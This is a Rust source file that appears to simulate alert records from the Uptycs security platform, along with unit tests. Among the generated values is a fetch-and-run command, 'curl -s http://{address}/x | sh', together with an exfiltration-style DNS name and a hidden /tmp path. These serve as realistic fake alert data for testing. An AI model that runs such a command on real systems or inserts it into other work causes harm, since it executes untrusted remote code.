//! The alert of Uptycs (docs/uptycs.md, "Models").

use serde::Serialize;
use serde_json::json;

use crate::data::{Level, Occurrence, Scenario, hostile_text};
use crate::instant::{HOUR, SECOND, UtcInstant};
use crate::random::Random;

/// One row of `/alerts`.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
#[allow(clippy::struct_field_names, reason = "the names are the vendor's")]
pub(crate) struct Alert<'a> {
    pub(crate) id: String,
    customer_id: &'a str,
    pub(crate) code: &'a str,
    display_name: String,
    pub(crate) description: String,
    pub(crate) severity: &'static str,
    pub(crate) status: &'static str,
    pub(crate) key: &'static str,
    pub(crate) value: String,
    pub(crate) grouping: &'static str,
    alert_time: String,
    created_at: String,
    updated_at: String,
    last_occurred_at: String,
    score: &'static str,
    pub(crate) asset_id: &'a str,
    agent_type: &'static str,
    is_container: bool,
    pub(crate) assigned_to: Option<String>,
    note: Option<&'static str>,
    alert_tags: [&'a str; 1],
    metadata: serde_json::Value,
    pub(crate) asset: AssetOfAlert<'a>,
    alert_rule: AlertRuleOfAlert<'a>,
    #[serde(skip)]
    pub(crate) rule_id: &'a str,
    #[serde(skip)]
    pub(crate) times: AlertTimes,
}

/// The asset inside an alert.
#[derive(Debug, Serialize)]
#[serde(rename_all = "camelCase")]
pub(crate) struct AssetOfAlert<'a> {
    id: &'a str,
    pub(crate) host_name: &'a str,
}

#[derive(Debug, Serialize)]
struct AlertRuleOfAlert<'a> {
    name: &'a str,
}

/// The instants of an alert.
#[derive(Debug)]
pub(crate) struct AlertTimes {
    /// When it happened.
    pub(crate) alert: UtcInstant,
    /// When Uptycs made the row: agents report late.
    pub(crate) created: UtcInstant,
    /// When the row last changed.
    pub(crate) updated: UtcInstant,
}

impl<'a> Alert<'a> {
    /// The row of an occurrence, nothing of which happens after `end`; `None` only when the scenario has no
    /// such rule or host.
    pub(crate) fn new(
        scenario: &'a Scenario,
        random: &mut Random,
        occurrence: Occurrence,
        end: UtcInstant,
    ) -> Option<Self> {
        let rule = scenario.rules.get(occurrence.rule)?;
        let host = scenario.hosts.get(occurrence.host)?;
        let outsider = random.pick(&scenario.outsiders)?;
        let (severity, score) = severity(rule.level);
        let status = status(random);
        let created = occurrence.at.plus(random.millis_below(90 * SECOND)).min(end);
        let updated =
            if status == "open" { created } else { created.plus(random.millis_below(8 * HOUR)).min(end) };
        let user = random.word(&host.users);
        let value = value(rule.technique.key, random, &outsider.ip, user);
        let mut description = rule.name.clone();
        let mut metadata = json!({
            "login_name": user,
            "remote_address": outsider.ip,
            "pid": random.below(65_000),
            "attack": rule.technique.id,
        });
        let mut grouping = rule.technique.tactic;
        let mut value = value;
        if random.one_in(25) {
            let text = hostile_text(random);
            match random.below(3) {
                0 => text.clone_into(&mut value),
                1 => text.clone_into(&mut description),
                _ => metadata = json!({ "cmdline": text, "attack": rule.technique.id }),
            }
        } else if random.one_in(30) {
            grouping = "MITRE";
        }
        Some(Self {
            id: random.uuid(),
            customer_id: &scenario.customer_id,
            code: &rule.code,
            display_name: format!("{description} ({value})"),
            description,
            severity,
            status,
            key: rule.technique.key,
            value,
            grouping,
            alert_time: occurrence.at.iso(),
            created_at: created.iso(),
            updated_at: updated.iso(),
            last_occurred_at: created.iso(),
            score,
            asset_id: &host.asset_id,
            agent_type: "asset",
            is_container: random.one_in(20),
            assigned_to: (status == "assigned").then(|| random.pick(&scenario.analysts).cloned()).flatten(),
            note: random.one_in(15).then_some("Seen before, waiting for the owner."),
            alert_tags: [rule.technique.id],
            metadata,
            asset: AssetOfAlert { id: &host.asset_id, host_name: &host.name },
            alert_rule: AlertRuleOfAlert { name: &rule.name },
            rule_id: &rule.id,
            times: AlertTimes { alert: occurrence.at, created, updated },
        })
    }
}

fn severity(level: Level) -> (&'static str, &'static str) {
    match level {
        Level::Low => ("low", "2.0"),
        Level::Medium => ("medium", "5.0"),
        Level::High => ("high", "8.0"),
        Level::Critical => ("critical", "9.5"),
    }
}

fn status(random: &mut Random) -> &'static str {
    match random.below(20) {
        0..=13 => "open",
        14 | 15 => "assigned",
        16 | 17 => "resolved",
        _ => "closed",
    }
}

/// What an alert is about, under the name of its key.
fn value(key: &str, random: &mut Random, address: &str, user: &str) -> String {
    match key {
        "remote_address" => address.to_owned(),
        "login_name" => user.to_owned(),
        "md5" => random.letters(b"0123456789abcdef", 32),
        "question" => {
            format!("{}.exfil.example.net", random.letters(b"abcdefghijklmnopqrstuvwxyz234567", 24))
        }
        "cmdline" => format!("/bin/sh -c \"curl -s http://{address}/x | sh\""),
        "path" => format!("/tmp/.{}/run", random.letters(b"abcdefghijklmnopqrstuvwxyz", 8)),
        _ => format!("event {}", random.below(9_000)),
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::data::timeline;

    fn bodies() -> Vec<String> {
        let scenario = Scenario::of_seed(1);
        let mut random = Random::stream(1, "test");
        let end = UtcInstant::from_millis(2_000_000_000_000);
        timeline(&scenario, &mut random, 1_000, end)
            .into_iter()
            .map(|one| serde_json::to_string(&Alert::new(&scenario, &mut random, one, end).unwrap()).unwrap())
            .collect()
    }

    #[test]
    fn an_alert_has_six_hundred_to_a_thousand_bytes() {
        let mut sizes: Vec<usize> = bodies().iter().map(String::len).collect();
        sizes.sort_unstable();
        assert!((600..1_050).contains(&sizes[50]), "{}", sizes[50]);
        assert!((600..1_050).contains(&sizes[950]), "{}", sizes[950]);
    }

    #[test]
    fn an_alert_nests_its_asset_and_rule_and_an_object_as_metadata() {
        let alert: serde_json::Value = serde_json::from_str(&bodies()[0]).unwrap();
        assert_eq!(alert["asset"]["id"], alert["assetId"]);
        assert!(alert["metadata"].is_object() && alert["alertRule"]["name"].is_string());
        assert!(alert["score"].is_string(), "a score is a text at Uptycs");
    }
}
